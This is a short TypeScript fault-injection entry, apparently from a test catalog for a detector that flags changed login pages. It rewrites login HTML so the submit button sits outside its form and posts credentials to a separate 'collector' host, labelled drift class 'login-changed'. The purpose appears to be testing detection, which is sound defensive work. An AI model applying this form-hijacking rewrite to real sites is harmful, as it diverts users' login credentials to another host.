import type { FaultFile } from './catalog.ts';
import { collector, withLoginPages } from './collector.ts';

export default {
  what: 'the login button stands outside of its form, and sends it to another host',
  handlers: withLoginPages((text) =>
    text
      .replace('<form ', '<form id="log-in" ')
      .replace(
        /(<button type="submit")([\s\S]*?<\/button>)(<\/form>)/,
        `$3$1 form="log-in" formaction="${collector}/login"$2`,
      ),
  ),
  drift: { class: 'login-changed' },
} satisfies FaultFile;
